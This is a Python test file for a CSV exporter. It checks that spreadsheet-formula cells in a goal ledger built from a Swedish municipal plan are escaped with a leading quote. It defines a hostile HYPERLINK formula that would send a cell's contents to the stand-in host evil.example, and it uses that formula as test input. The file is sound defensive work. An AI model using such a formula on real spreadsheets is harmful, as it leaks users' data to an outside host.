"""Issue 13 item 6: the goal ledger CSV never hands a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ingest import read_bytes
from search.embed import HashEmbedder
from search.goals.build import build_ledger
from search.goals.export import csv_cell, ledger_csv

VP_2020 = (
    Path(__file__).resolve().parents[2] / "corpus" / "vp-2020-familjestodsenheten-spanga-tensta.txt"
)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'


@pytest.mark.parametrize("value", [HOSTILE, "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx"])
def test_formula_like_cells_are_quoted(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Barn och unga", "", "2019", "a=b", "’=x"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert csv_cell(value) == value


def test_goal_text_with_a_formula_is_exported_as_text() -> None:
    text = VP_2020.read_text(encoding="utf-8").replace(
        "Barn och ungdomar får sina behov tillgodosedda", HOSTILE, 1
    )
    (report,) = read_bytes(text.encode("utf-8"), "vp-2020-injektion.txt")
    ledger = build_ledger([report], HashEmbedder(64))
    rows = list(csv.DictReader(io.StringIO(ledger_csv(ledger))))
    texts = [row["text"] for row in rows]
    assert "'" + HOSTILE in texts
    assert not [cell for row in rows for cell in row.values() if cell.startswith(tuple("=+-@\t\r"))]
